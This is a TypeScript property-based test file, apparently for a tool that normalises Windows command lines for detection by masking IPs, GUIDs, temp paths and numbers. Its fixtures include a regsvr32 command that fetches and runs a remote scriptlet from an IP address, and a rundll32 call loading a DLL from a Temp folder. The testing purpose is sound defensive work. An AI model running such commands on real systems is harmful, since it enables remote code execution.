import fc from 'fast-check'
import { expect, test } from 'vitest'
import { anyCharacter } from '@/fixtures/any-character'
import { maskedSpans } from './masked-spans'
import { readToolUse } from './read-tool-use'

/** The stretches of a command line that its pattern leaves open, as `placeholder written`. */
function masked(slug: string, commandLine: string): string[] {
  const parts = readToolUse(slug, commandLine, slug)?.parts ?? []
  return parts.flatMap((part) =>
    maskedSpans(commandLine, part).map(
      ({ start, end, placeholder }) => `${placeholder} ${commandLine.slice(start, end)}`,
    ),
  )
}

test('folders, names, numbers, addresses and identifiers that vary are told apart from what stays', () => {
  expect(
    masked('rundll32.exe', 'rundll32.exe "C:\\Users\\ana\\AppData\\Local\\Temp\\a1b2.dll",Start 1234'),
  ).toEqual(['<user-temp> C:\\Users\\ana\\AppData\\Local\\Temp', '* a1b2', '<n> 1234'])
  expect(masked('regsvr32.exe', 'regsvr32 /s /i:http://10.1.2.3/file.sct scrobj.dll')).toEqual([
    '<ip> 10.1.2.3',
    '* file',
  ])
  expect(masked('msiexec.exe', 'msiexec /i {6F9619FF-8B86-D011-B42D-00C04FC964FF} /qn REBOOT=0')).toEqual([
    '<guid> 6F9619FF-8B86-D011-B42D-00C04FC964FF',
    '<n> 0',
  ])
})
test('a part that the pattern writes in other words has no marks', () => {
  expect(masked('regsvr32.exe', 'regsvr32 /s scrobj.dll')).toEqual([])
})
test('whatever the command line, stretches lie in order within their part', () => {
  const word = fc.oneof(
    fc.constantFrom(
      '<n>',
      '*',
      '"',
      '\\',
      'C:\\Users\\ana\\',
      '.dll',
      '/i:',
      'http://10.0.0.1/',
      '{',
      '1234',
      ' ',
    ),
    fc.string({ unit: anyCharacter, maxLength: 8 }),
  )
  fc.assert(
    fc.property(
      fc.array(word, { maxLength: 20 }),
      fc.constantFrom('rundll32.exe', 'msiexec.exe', 'x.exe'),
      (words, slug) => {
        const line = `${slug} ${words.join('')}`
        for (const part of readToolUse(slug, line, slug)?.parts ?? []) {
          let end = part.start
          for (const span of maskedSpans(line, part)) {
            expect(span.start).toBeGreaterThanOrEqual(end)
            expect(span.end).toBeGreaterThan(span.start)
            expect(span.end).toBeLessThanOrEqual(part.end)
            end = span.end
          }
        }
      },
    ),
  )
})
